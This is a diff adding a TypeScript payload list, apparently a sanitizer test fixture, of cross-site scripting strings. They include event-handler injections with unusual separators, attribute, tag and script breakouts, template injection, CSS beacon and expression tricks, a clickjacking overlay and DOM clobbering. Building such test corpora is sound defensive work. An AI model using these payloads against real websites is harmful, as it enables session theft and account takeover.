@@ -1,0 +1,50 @@
+import { entities, payloadsOf } from './payload.ts';
+
+/** Event handlers and styles in unusual spelling, and texts that leave the attribute or element they stand in. */
+export const attributePayloads = payloadsOf('attribute', {
+  'separator-slash': ({ script }) => `<img/src="x"/onerror=${script}>`,
+  'separator-newline': ({ script }) => `<img\nsrc=x\nonerror\n=\n${script}\n>`,
+  'separator-tab': ({ script }) => `<img\tsrc=x\tonerror\t=\t${script}>`,
+  'separator-form-feed': ({ script }) => `<img\fsrc=x\fonerror=${script}>`,
+  'separator-quote': ({ script }) => `<img src="x"onerror="${script}">`,
+  'separator-junk': ({ script }) => `<img src=x =" onerror=${script} ">`,
+  'separator-many-slashes': ({ script }) => `<img src=x //////onerror=${script}>`,
+  'null-character': ({ script }) => `<img src=x \u0000 onerror=${script}>`,
+  'name-capitals': ({ script }) => `<IMG SRC=x ONERROR=${script}>`,
+  'value-entities': ({ script }) => `<img src=x onerror="${entities(script)}">`,
+  'value-javascript': ({ script }) => `<img src=x onerror="javascript:${script}">`,
+  'value-backticks': ({ script }) => `<img src=\`x\` onerror=${script}>`,
+  duplicate: ({ script }) => `<img src=x onerror="" alt="" onerror=${script} onload=${script}>`,
+  'pointer-over': ({ script }) => `<b onpointerover=${script} onmouseover=${script}>Text</b>`,
+  click: ({ script }) => `<p onclick=${script}>Text</p>`,
+  animation: ({ script }) =>
+    `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=${script}>Text</b>`,
+  transition: ({ script }) =>
+    `<b tabindex=0 autofocus style="transition:color 1s;color:red" ontransitionrun=${script}>Text</b>`,
+  'style-background': ({ beacon }) => `<p style="background:url('${beacon}')">Text</p>`,
+  'style-escaped': ({ beacon }) => `<p style="background:\\75\\72\\6c('${beacon}')">Text</p>`,
+  'style-image-set': ({ beacon }) => `<p style="background-image:image-set('${beacon}' 1x)">Text</p>`,
+  'style-list': ({ beacon }) => `<ul style="list-style-image:url('${beacon}')"><li>Text</li></ul>`,
+  'style-expression': ({ script }) => `<p style="width:exp/**/ression(${script})">Text</p>`,
+  'style-binding': ({ beacon }) =>
+    `<p style="-moz-binding:url('${beacon}#x');behavior:url('${beacon}')">Text</p>`,
+  'style-overlay': () =>
+    `<a href="https://example.org" style="position:fixed;inset:0;z-index:99999;opacity:0">Continue</a>`,
+  'clobber-id': () => '<a id="__xss" href="#">Text</a><a id="__xss" name="source" href="#">Text</a>',
+  'clobber-name': () => '<img name="__xss"><form name="__xss"><input name="attributes"></form>',
+  'leave-double-quote': ({ script }) => `" autofocus tabindex=0 onfocus=${script} x="`,
+  'leave-single-quote': ({ script }) => `' autofocus tabindex=0 onfocus=${script} x='`,
+  'leave-tag': ({ script }) => `"><img src=x onerror=${script}>`,
+  'leave-tag-single': ({ script }) => `'><img src=x onerror=${script}>`,
+  'leave-tag-backtick': ({ script }) => `\`><img src=x onerror=${script}>`,
+  'leave-encoded': ({ script }) => `&quot;&gt;&lt;img src=x onerror=${script}&gt;`,
+  'leave-percent': ({ script }) => `%22%3E%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(script)}%3E`,
+  'leave-script': ({ script }) => `</script><script>${script}</script>`,
+  'leave-string': ({ script }) => `';${script};//\\";${script};//`,
+  'leave-template-literal': ({ script }) => `\${${script}}`,
+  'leave-moustache': ({ script }) => `{{constructor.constructor('${script}')()}}`,
+  'leave-title': ({ script }) => `</title><img src=x onerror=${script}>`,
+  'leave-textarea': ({ script }) => `</textarea><img src=x onerror=${script}>`,
+  'leave-comment': ({ script }) => `--><img src=x onerror=${script}>`,
+  'leave-style': ({ beacon }) => `}*{background:url(${beacon})}</style>`,
+});
